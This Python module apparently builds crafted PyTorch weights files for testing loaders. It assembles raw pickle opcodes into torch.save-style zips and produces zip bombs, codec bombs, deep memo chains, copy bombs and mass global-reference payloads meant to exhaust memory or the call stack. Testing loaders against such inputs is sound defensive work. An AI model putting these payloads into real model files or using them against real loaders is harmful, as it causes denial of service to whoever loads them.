"""Pickle opcodes and builders for crafted weights files: ``torch.save``-shaped zips, bombs and payloads."""

from __future__ import annotations

import io
import struct
import zipfile

PROTO2, STOP, MARK, TUPLE, TUPLE1, TUPLE2 = b"\x80\x02", b".", b"(", b"t", b"\x85", b"\x86"
NONE, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE = b"N", b"}", b"]", b")"
SETITEM, REDUCE, BUILD, NEWOBJ, APPEND, POP, BINPERSID = b"s", b"R", b"b", b"\x81", b"a", b"0", b"Q"
NEWFALSE = b"\x89"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    data = s.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def integer(n: int) -> bytes:
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    data = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def put(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def get(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def in_dict(value: bytes) -> bytes:
    """A pickle of ``{"model": <value>}``, as a payload would hide next to a real-looking entry."""
    return PROTO2 + EMPTY_DICT + text("model") + value + SETITEM + STOP


def tensor_pickle(numel: int, size: tuple[int, ...], record_key: str = "0") -> bytes:
    """``{"model": _rebuild_tensor_v2(<storage key, claimed numel>, 0, size, stride, False, OrderedDict())}``."""
    stride = [1] * len(size)
    for i in range(len(size) - 2, -1, -1):
        stride[i] = stride[i + 1] * size[i + 1]
    storage = MARK + text("storage") + glob("torch", "FloatStorage") + text(record_key) + text("cpu")
    storage += integer(numel) + TUPLE + BINPERSID
    ints = lambda xs: MARK + b"".join(integer(x) for x in xs) + TUPLE  # noqa: E731
    args = MARK + storage + integer(0) + ints(size) + ints(stride) + NEWFALSE
    args += glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE
    return in_dict(glob("torch._utils", "_rebuild_tensor_v2") + args + REDUCE)


def torch_zip(
    pickle_bytes: bytes, records: dict[str, bytes | int] | None = None, deflate: bool = False
) -> bytes:
    """A zip laid out as ``torch.save`` writes it (``archive/data.pkl``, ``archive/data/<key>``); an int record
    is that many zero bytes, streamed (a deflated one is a zip bomb of a few hundred KB)."""
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", compression=method, compresslevel=1 if deflate else None) as z:
        z.writestr("archive/data.pkl", pickle_bytes)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
        for key, data in (records or {}).items():
            _write_entry(z, f"archive/data/{key}", data)
    return out.getvalue()


def _write_entry(z: zipfile.ZipFile, name: str, data: bytes | int) -> None:
    if isinstance(data, bytes):
        z.writestr(name, data)
        return
    chunk = bytes(2**20)
    with z.open(name, "w", force_zip64=True) as f:
        for _ in range(data // len(chunk)):
            f.write(chunk)


def codec_bomb(levels: int = 34) -> bytes:
    """encode(encode(...encode("A"*64, "latin1")..., "hex"), "hex"): 64 bytes doubled ``levels`` times."""
    body = glob("_codecs", "encode") + put(0) + POP
    body += get(0) * (levels + 1) + text("A" * 64) + text("latin1") + TUPLE2 + REDUCE
    body += (text("hex") + TUPLE2 + REDUCE) * levels
    return in_dict(body)


def memo_chain(levels: int = 20_000) -> bytes:
    """A list nested ``levels`` deep, built through the memo with a constant stack: x.append(y); x = y."""
    return PROTO2 + EMPTY_LIST + put(0) + (get(0) + EMPTY_LIST + put(0) + APPEND + POP) * levels + STOP


def copy_bomb(call: bytes, container: bytes, args: bytes, copies: int) -> bytes:
    """``container`` memoised once, then ``copies`` x ``call(<args around it>)`` kept in a list: each call is
    ~10 bytes of file and copies the whole container. ``args`` turns the container (memo 2) into arguments."""
    body = EMPTY_LIST + put(1) + POP + call + put(0) + POP + container + put(2) + POP
    body += get(1) + MARK + (get(0) + args + REDUCE) * copies + b"e"  # APPENDS into the list (memo 1)
    return in_dict(body)


def distinct_globals(n: int = 20_000) -> bytes:
    """``n`` different reference class names: a class object (~1 KB) each for a few bytes of file."""
    return in_dict(b"".join(glob("ultralytics.nn.modules.block", f"C{i}") + POP for i in range(n)) + NONE)
